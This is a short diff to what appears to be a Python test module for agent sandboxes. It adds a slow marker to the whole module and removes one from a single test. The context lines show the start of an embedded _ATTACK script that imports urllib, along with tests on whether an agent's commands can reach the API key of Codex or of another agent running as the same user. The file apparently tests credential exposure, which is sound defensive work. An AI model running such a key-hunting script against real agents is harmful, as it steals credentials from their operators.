@@ -22,7 +22,7 @@ from turnstile_server.testing.policy import FailedStep, PolicyInput, Step
 from turnstile_server.testing.server import scripted_server
 from turnstile_server.testing.shell_policy import ShellPolicy, endpoint_texts, solution_commands
 
-pytestmark = pytest.mark.anyio
+pytestmark = [pytest.mark.anyio, pytest.mark.slow]
 
 _ATTACK = r"""
 import glob, os, re, urllib.error, urllib.request
@@ -206,7 +206,6 @@ async def test_the_key_of_codex_itself_is_in_reach_of_its_commands(tiny_model: P
     assert "found" in "\n".join(m.content or "" for t in told.turns for m in t.new_messages if m.role == "tool")
 
 
-@pytest.mark.slow
 async def test_the_attack_finds_the_key_of_an_agent_that_shares_the_commands_user(
     sandboxes: dict[str, Any], tiny_model: Path, tmp_path: Path
 ) -> None:
